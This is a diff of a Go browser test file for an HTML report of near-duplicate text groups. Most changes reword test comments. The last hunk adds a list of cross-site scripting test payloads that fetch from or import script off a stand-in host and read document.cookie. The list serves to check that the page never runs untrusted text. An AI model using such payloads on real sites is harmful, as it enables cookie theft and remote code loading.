@@ -15,7 +15,7 @@ import (
 	"github.com/neardup/neardup/report"
 )
 
-// news is a small run: groups of several kinds, in two languages.
+// news returns a small run with groups of several kinds, in two languages.
 func news() []decided {
 	long := strings.Repeat("All of this was said before in the same words and in the same order. ", 40)
 	edited := strings.Replace(long, "was said", "has been said", 1)
@@ -86,7 +86,7 @@ func includes(tab *browser.Tab, selector string, parts ...string) {
 	}
 }
 
-// Pictures are seen beside the one that is kept, by the policy of the page.
+// The page shows pictures next to the kept one, as its policy allows.
 func TestPictures(t *testing.T) {
 	t.Parallel()
 	const dot = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
@@ -141,8 +141,7 @@ func TestWholeGroups(t *testing.T) {
 	quiet(t, tab, path)
 }
 
-// narrow names a value beside its name that is a column of letters, or a panel that is wider
-// than the page.
+// narrow finds a value next to its name that is a column of letters, or a panel wider than the page.
 const narrow = `[...document.querySelectorAll('dd, .panel')].filter((e) => e.offsetParent &&
 	(e.clientWidth < 80 || e.matches('.panel') && e.scrollWidth > e.clientWidth)).map((e) => e.innerText.slice(0, 60)).join('; ')`
 
@@ -203,8 +202,8 @@ func TestChineseToTheEnd(t *testing.T) {
 	quiet(t, tab, path)
 }
 
-// A person goes through every view by keys alone, decides, takes back, saves.
-// Nothing is asked for but the file, and the policy refuses nothing.
+// A person uses every view by keys alone, decides, reverts and saves. The page requests only its own file,
+// and the policy blocks nothing.
 func TestEveryViewAndKey(t *testing.T) {
 	t.Parallel()
 	tab, path := open(t, 1280, news())
@@ -335,8 +334,7 @@ func TestAxeFindsNothing(t *testing.T) {
 	}
 }
 
-// payloads are texts that would do something if any page took them as markup,
-// as an address, or as part of a script.
+// payloads returns texts that would act if a page used them as markup, as an address or in a script.
 func payloads() []string {
 	var out []string
 	for _, act := range []string{"pwned=1", "fetch('http://elsewhere.example/'+1)", "window.pwned=document.cookie", "alert(1)", "import('http://elsewhere.example/x.js')"} {
